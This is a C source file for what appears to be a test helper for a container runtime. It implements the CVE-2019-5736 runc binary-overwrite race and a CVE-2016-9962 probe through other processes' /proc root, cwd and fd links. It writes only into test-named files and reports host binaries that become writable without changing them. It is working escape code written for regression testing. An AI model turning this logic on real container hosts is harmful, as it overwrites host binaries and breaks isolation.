// Lurks in a container for the runtime's own processes (CVE-2019-5736): takes hold of every /proc/PID/exe that is not
// its own file or the shell's, and tries to open it for writing, again and again, until the kernel no longer says
// ETXTBSY. With a second argument it also looks for that file of the host behind the root, working directory and
// descriptors of every other process (CVE-2016-9962). lurker SECONDS [FILE]
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

struct prey {
    int fd;
    ino_t inode;
    dev_t device;
    char name[64];
};
static struct prey prey[512];
static int caught;

static int known(const struct stat *found) {
    for (int i = 0; i < caught; i++)
        if (prey[i].inode == found->st_ino && prey[i].device == found->st_dev) return 1;
    return 0;
}

static void catch_one(const char *pid, const struct stat *own, const struct stat *shell) {
    char path[64], name[256];
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    struct stat found;
    if (fd < 0) return;
    if (fstat(fd, &found) || known(&found) || caught == 512 ||
        (found.st_ino == own->st_ino && found.st_dev == own->st_dev) ||
        (found.st_ino == shell->st_ino && found.st_dev == shell->st_dev)) {
        close(fd);
        return;
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd); // the process may be gone by now
    ssize_t n = readlink(path, name, sizeof name - 1);
    name[n < 0 ? 0 : n] = 0;
    if (!strcmp(name, "/bin/busybox")) { // a neighbour's shell: no file of the host's
        close(fd);
        return;
    }
    printf("SAW %s\n", name);
    prey[caught] = (struct prey){fd, found.st_ino, found.st_dev, ""};
    snprintf(prey[caught++].name, sizeof prey[0].name, "%.60s", name);
}

static void reach(const char *pid, const char *file) {
    static const char *doors[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
    for (unsigned i = 0; i < sizeof doors / sizeof *doors; i++) {
        char path[4096];
        snprintf(path, sizeof path, "/proc/%.20s/%s%.3000s", pid, doors[i], file);
        if (access(path, F_OK) == 0) printf("REACHED by %s\n", doors[i]);
    }
}

static void strike(struct prey *one) {
    char path[64];
    if (one->fd < 0) return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", one->fd);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return;
    // A file of the machine's is not to be spoiled: that it could be is enough. Those of the test are, and memory files,
    // which may be sealed.
    int ours = strstr(one->name, "runtime-under-attack") || strstr(one->name, "/naive") || !strncmp(one->name, "/memfd:", 7);
    if (!ours || write(fd, "pwned", 5) == 5) {
        printf("WROTE %s\n", one->name);
        close(one->fd);
        one->fd = -1;
    }
    close(fd);
}

int main(int argc, char **argv) {
    struct stat own, shell = {0};
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
    stat("/proc/self/exe", &own);
    stat("/bin/busybox", &shell);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("LURKING\n");
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        if (!proc) return 1;
        for (struct dirent *entry; (entry = readdir(proc));)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') {
                if (argc > 2) reach(entry->d_name, argv[2]);
                else catch_one(entry->d_name, &own, &shell);
            }
        closedir(proc);
        for (int i = 0; i < caught; i++) strike(&prey[i]);
        if (access("/stop", F_OK) == 0) { // told by the test; once more, now that everything has ended
            for (int i = 0; i < caught; i++) strike(&prey[i]);
            break;
        }
    }
    printf("GONE\n");
    return 0;
}
